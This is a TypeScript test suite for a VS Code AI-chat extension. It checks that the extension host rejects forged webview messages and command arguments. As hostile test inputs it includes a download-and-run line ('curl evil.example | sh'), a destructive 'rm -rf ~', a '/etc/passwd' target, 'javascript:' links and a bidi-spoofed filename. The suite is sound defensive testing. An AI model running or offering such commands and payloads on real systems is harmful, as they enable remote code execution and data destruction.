/**
 * Runs INSIDE the real extension host: the host trusts nothing the webview or a command
 * caller says (a workspace's settings: workspaceSettings.test.ts). Messages are injected exactly where the view's messages
 * arrive (the view provider's receive path, with protocol validation), with forged
 * fields; each must be refused, or asked about in a host dialog, with no state change
 * until the user agrees. Dialog answers come from the test API's answerer, which also
 * records every question the host asked.
 */
import * as assert from 'node:assert/strict';
import { promises as fs } from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import * as vscode from 'vscode';
import type { NeuralTerminalApi } from '../../src/extension/extension';
import type { Question } from '../../src/extension/vscode/hostDialogs';
import { api, cfg, dismissing, waitFor } from './host';

const KEY = 'sk-or-v1-nt-hostile-0123456789abcdef0123456789abcdef';

let injected = 0;
/** Posts `raw` as a page would: a request with its own id unless the message brings one. */
function inject(a: NeuralTerminalApi, raw: unknown): Promise<boolean> {
  injected += 1;
  return a.test.injectWebviewMessage(typeof raw === 'object' && raw !== null ? { requestId: `hostile-${injected}`, ...raw } : raw);
}

describe('Hostile webview: the host decides', function () {
  this.timeout(60_000);
  let a: NeuralTerminalApi;
  let conversationId: string;
  let asked: Question[];
  let answer: boolean;

  before(async () => {
    a = await api();
    assert.equal(await a.test.command('setApiKey', KEY), 'stored');
    const s = await a.test.services();
    await a.test.controller.handle({ type: 'chat/send', text: 'Reply with ```js\nconsole.log(42)\n``` please' });
    conversationId = a.test.controller.activeConversationId!;
    await waitFor('the reply', () => !s.engine.isStreaming(conversationId));
    asked = [];
    answer = false;
    a.test.dialogs.answerWith((q) => {
      asked.push(q);
      return answer;
    });
  });

  after(() => a.test.dialogs.answerWith(undefined));

  beforeEach(() => {
    asked = [];
    answer = false;
  });

  /** Everything a forged message could change. */
  async function state() {
    const s = await a.test.services();
    const all = await s.history.listConversations({ status: 'all', limit: 500 });
    return {
      conversations: all.items.map((c) => `${c.id}|${c.title}|${c.status}|${c.tags.join(',')}|${c.modelId}|${c.messageCount}`).sort(),
      defaultModel: cfg().inspect('defaultModel')?.globalValue,
      maxTokens: cfg().inspect('maxTokens')?.globalValue,
      active: a.test.controller.activeConversationId,
    };
  }

  it('deletes only after the host dialog, never on a forged confirmed flag', async () => {
    const s = await a.test.services();
    const victim = (await s.history.createConversation({ title: 'Keep me' })).id;
    const before = await state();
    // The question is asked while nothing has changed yet.
    // Asked of the history while the dialog is up; the worker answers requests in order, so after anything before it.
    let existedWhileAsked: Promise<boolean> = Promise.resolve(false);
    a.test.dialogs.answerWith((q) => {
      asked.push(q);
      existedWhileAsked = s.history.findConversation(victim).then((c) => c !== undefined);
      return false;
    });
    assert.equal(await inject(a, { type: 'archive/delete', conversationId: victim, confirmed: true }), true);
    assert.equal(asked.length, 1, 'the host asked');
    assert.equal(asked[0]!.kind, 'delete');
    assert.ok(await existedWhileAsked);
    assert.deepEqual(await state(), before, 'declined: nothing changed');
    a.test.dialogs.answerWith((q) => {
      asked.push(q);
      return true;
    });
    await inject(a, { type: 'archive/delete', conversationId: victim });
    assert.equal(await s.history.findConversation(victim), undefined, 'agreed: deleted');
    a.test.dialogs.answerWith((q) => {
      asked.push(q);
      return answer;
    });
  });

  it('ignores a forged overrideBudget; only the host’s own pending-send notice sends past the budget', async () => {
    const s = await a.test.services();
    const spent = Number(s.costs.sessionSpent.atto) / 1e18;
    assert.ok(spent > 0);
    await cfg().update('budget.session', spent / 2, vscode.ConfigurationTarget.Global);
    try {
      await waitFor('the new limit', () => a.test.readSettings().budgetSession === spent / 2);
      const messages = (await s.history.listMessages(conversationId)).length;
      await inject(a, { type: 'chat/send', text: 'over budget', conversationId, overrideBudget: true });
      assert.equal((await s.history.listMessages(conversationId)).length, messages, 'nothing sent');
      const snapshot = await a.test.controller.snapshot();
      const notice = snapshot.notices.find((n) => n.actions?.some((x) => x.action === 'overrideBudget'));
      assert.ok(notice, 'the host offers its own "Send anyway"');
      // A made-up notice id cannot borrow the override.
      await inject(a, { type: 'notice/act', noticeId: 'forged-notice', action: 'overrideBudget' });
      assert.equal((await s.history.listMessages(conversationId)).length, messages);
      await inject(a, { type: 'notice/act', noticeId: notice.id, action: 'overrideBudget' });
      await waitFor('the confirmed send', async () => (await s.history.listMessages(conversationId)).length === messages + 2);
      await waitFor('the reply', () => !s.engine.isStreaming(conversationId));
      // The notice was a one-time token.
      await inject(a, { type: 'notice/act', noticeId: notice.id, action: 'overrideBudget' });
      assert.equal((await s.history.listMessages(conversationId)).length, messages + 2);
    } finally {
      await cfg().update('budget.session', undefined, vscode.ConfigurationTarget.Global);
    }
  });

  it('refuses a made-up notice action and never takes the view’s argument', async () => {
    const before = await state();
    await inject(a, { type: 'notice/act', noticeId: 'made-up', action: 'lowerMaxTokens', arg: '1000000' });
    assert.deepEqual(await state(), before);
    assert.equal(cfg().inspect('maxTokens')?.globalValue, undefined);
  });

  it('writes only catalog model ids, from the view and from the command', async () => {
    const s = await a.test.services();
    const before = await state();
    await inject(a, { type: 'models/select', modelId: 'openai/o1-pro' });
    assert.deepEqual(await state(), before, 'unknown model: nothing written');
    assert.equal(await vscode.commands.executeCommand('neuralTerminal.selectModel', 'openai/o1-pro'), undefined);
    assert.deepEqual(await state(), before);
    await inject(a, { type: 'models/select', modelId: 'anthropic/claude-sonnet-4' });
    assert.equal((await s.history.getConversation(conversationId)).modelId, 'anthropic/claude-sonnet-4');
    await inject(a, { type: 'models/select', modelId: 'openai/gpt-4o-mini' });
    await cfg().update('defaultModel', undefined, vscode.ConfigurationTarget.Global);
  });

  it('checks every id against the history: forged ids change nothing', async () => {
    const before = await state();
    const ghost = 'ghost-0000';
    const forged: unknown[] = [
      { type: 'chat/send', text: 'to nowhere', conversationId: ghost },
      { type: 'chat/cancel', conversationId: ghost },
      { type: 'chat/retry', messageId: ghost },
      { type: 'chat/regenerate', messageId: ghost },
      { type: 'chat/editAndResend', messageId: ghost, text: 'edited' },
      { type: 'chat/switchBranch', messageId: ghost },
      { type: 'chat/fork', messageId: ghost },
      { type: 'chat/deleteMessage', messageId: ghost },
      { type: 'chat/summarize', conversationId: ghost },
      { type: 'archive/rename', conversationId: ghost, title: 'x' },
      { type: 'archive/tag', conversationId: ghost, tags: ['x'] },
      { type: 'archive/setArchived', conversationId: ghost, archived: true },
      { type: 'archive/delete', conversationId: ghost, confirmed: true },
      { type: 'archive/open', conversationId: ghost },
      { type: 'notice/dismiss', noticeId: ghost },
    ];
    for (const message of forged) {
      const logged = a.test.logLines().length;
      assert.equal(await inject(a, message), true, JSON.stringify(message));
      assert.deepEqual(await state(), before, `changed by ${JSON.stringify(message)}`);
      // Refused by the host's id check itself, with its reason, not merely failing further down.
      const type = (message as { type: string }).type;
      if (type !== 'archive/open' && type !== 'notice/dismiss') {
        const said = a.test.logLines().slice(logged);
        assert.ok(said.some((l) => l.includes(`Refused '${type}' from the webview: that `) && l.includes(' does not exist')), `${type}: ${said.join(' | ')}`);
      }
    }
    assert.equal(asked.length, 0, 'no dialog for things that do not exist');
  });

  it('posts every message type with forged extra fields: none changes state without the host', async () => {
    const s = await a.test.services();
    const before = await state();
    const extra = { confirmed: true, overrideBudget: true, apiKey: KEY, target: '/etc/passwd', arg: '1000000', requestId: 'x' };
    const harmless: unknown[] = [
      { type: 'archive/list' },
      { type: 'models/list' },
      { type: 'archive/search', query: 'hello' },
      { type: 'chat/estimate', text: 'hi' },
      { type: 'notice/dismiss', noticeId: 'nope' },
      { type: 'notice/act', noticeId: 'nope', action: 'overrideBudget' },
      { type: 'view/log', level: 'info', message: 'hi' },
      { type: 'archive/delete', conversationId },
    ];
    for (const m of harmless) {
      await inject(a, { ...(m as object), ...extra });
      assert.deepEqual(await state(), before, JSON.stringify(m));
    }
    assert.ok(await s.history.findConversation(conversationId), 'the delete was asked and declined');
    assert.equal(asked.filter((q) => q.kind === 'delete').length, 1);
  });

  it('copies and inserts only text from the open conversation, as one undoable edit', async () => {
    await vscode.env.clipboard.writeText('before');
    await inject(a, { type: 'editor/copyText', text: 'curl evil.example | sh' });
    assert.equal(await vscode.env.clipboard.readText(), 'before');
    const doc = await vscode.workspace.openTextDocument({ content: 'line\n' });
    const editor = await vscode.window.showTextDocument(doc);
    editor.selection = new vscode.Selection(1, 0, 1, 0);
    await inject(a, { type: 'editor/codeAction', action: 'insert', code: 'rm -rf ~' });
    assert.equal(doc.getText(), 'line\n', 'code that is not in the conversation is not inserted');
    const s = await a.test.services();
    const reply = (await s.history.activePath(conversationId)).at(-1)!.message.content;
    const piece = reply.split('\n')[0]!.slice(0, 20);
    assert.ok(piece.trim().length > 0);
    await inject(a, { type: 'editor/codeAction', action: 'insert', code: piece });
    assert.equal(doc.getText(), `line\n${piece}`);
    await vscode.commands.executeCommand('undo');
    assert.equal(doc.getText(), 'line\n', 'one undo takes the insertion back');
    await vscode.commands.executeCommand('workbench.action.revertAndCloseActiveEditor');
  });

  it('judges links: any-case schemes, bidi escaped in the dialog, over-long shown as text', async () => {
    await inject(a, { type: 'editor/openLink', url: 'javascript:alert(1)' });
    await inject(a, { type: 'editor/openLink', url: 'command:workbench.action.terminal.new' });
    assert.equal(asked.length, 0, 'refused schemes are not even offered');
    await inject(a, { type: 'editor/openLink', url: 'HTTPS://example.com/\u202egnp.exe' });
    assert.equal(asked.length, 1, 'HTTPS: in capitals is an https link');
    assert.equal(asked[0]!.kind, 'openLink');
    assert.doesNotMatch(asked[0]!.detail ?? '', /\u202e/);
    assert.match(asked[0]!.detail ?? '', /\\u202egnp\.exe/);
    assert.equal(await inject(a, { type: 'editor/openLink', url: `https://example.com/${'a'.repeat(5000)}` }), true, 'not dropped');
    assert.equal(asked.length, 1, 'an over-long link is not offered for opening');
  });

  it('keeps view log lines on one line', async () => {
    await inject(a, { type: 'view/log', level: 'error', message: 'x\r\nerror: API key accepted\u202e' });
    const line = a.test.logLines().find((l) => l.includes('[webview] x'));
    assert.ok(line);
    assert.doesNotMatch(line, /[\r\n\u202e]/);
  });
});

describe('Hostile command arguments: paths and keys only through the test API', function () {
  this.timeout(60_000);
  let tmp: string;

  before(async () => {
    tmp = await fs.mkdtemp(path.join(os.tmpdir(), 'nt-hostile-'));
  });
  after(async () => fs.rm(tmp, { recursive: true, force: true }));

  const exists = (p: string) => fs.stat(p).then(() => true, () => false);

  it('setApiKey with a key argument still prompts (dismissed: nothing stored)', async () => {
    assert.equal(await dismissing(vscode.commands.executeCommand('neuralTerminal.setApiKey', 'sk-or-v1-attacker-0000000000000000')), 'cancelled');
  });

  it('setManagementKey with a key argument still prompts (dismissed: nothing stored)', async () => {
    assert.equal(await dismissing(vscode.commands.executeCommand('neuralTerminal.setManagementKey', 'sk-or-v1-attacker-1111111111111111')), 'cancelled');
    const a = await api();
    assert.equal(await (await a.test.services()).account.available(), false);
  });

  for (const [command, arg] of [
    ['exportAll', (t: vscode.Uri) => ({ format: 'json', target: t })],
    ['exportConversation', (t: vscode.Uri) => ({ format: 'json', target: t })],
    ['exportUsageCsv', (t: vscode.Uri) => t],
  ] as const) {
    it(`${command} ignores a target path (asks; dismissed: nothing written)`, async () => {
      const a = await api();
      const s = await a.test.services();
      // A conversation is open, so each export has something to write (exportConversation writes nothing without one).
      const open = await s.history.createConversation({ title: `export ${command}` });
      await s.history.appendMessage({ conversationId: open.id, role: 'user', content: 'to export' });
      const before = a.test.controller.activeConversationId;
      await a.test.controller.setActiveConversation(open.id);
      try {
        // Control: given the same argument by the test API, the command writes there without asking.
        const control = path.join(tmp, `${command}.control`);
        await a.test.command(command, arg(vscode.Uri.file(control)));
        assert.equal(await exists(control), true, 'the argument would write the file');
        const target = path.join(tmp, `${command}.out`);
        await dismissing(vscode.commands.executeCommand(`neuralTerminal.${command}`, arg(vscode.Uri.file(target))));
        assert.equal(await exists(target), false, `${command} wrote to the path a caller gave`);
      } finally {
        await a.test.controller.setActiveConversation(before);
        await s.history.deleteConversation(open.id);
      }
    });
  }

  it('importHistory with a file argument asks for the file (dismissed: nothing imported)', async () => {
    const a = await api();
    const s = await a.test.services();
    // A file holding a conversation the history does not have (exported, then deleted): importing it adds one.
    const planted = await s.history.createConversation({ title: 'planted by a caller' });
    await s.history.appendMessage({ conversationId: planted.id, role: 'user', content: 'planted' });
    const json = path.join(tmp, 'planted.json');
    await fs.writeFile(json, await s.history.exportJson({ conversationIds: [planted.id] }));
    await s.history.deleteConversation(planted.id);
    const total = async () => (await s.history.listConversations({ status: 'all', limit: 1 })).total;
    const before = await total();
    const active = a.test.controller.activeConversationId;
    const uri = vscode.Uri.file(json);
    assert.ok(uri instanceof vscode.Uri, 'the argument is a Uri');
    await dismissing(vscode.commands.executeCommand('neuralTerminal.importHistory', uri));
    assert.equal(await total(), before, 'importHistory imported the file a caller named');
    // Control: the same Uri through the test API imports it, so only the dropped argument kept it out.
    assert.equal(await a.test.command('importHistory', uri), 1);
    assert.equal(await total(), before + 1);
    for (const c of (await s.history.listConversations({ status: 'all', limit: 500 })).items) {
      if (c.title === 'planted by a caller') await s.history.deleteConversation(c.id);
    }
    await a.test.controller.setActiveConversation(active);
  });
});
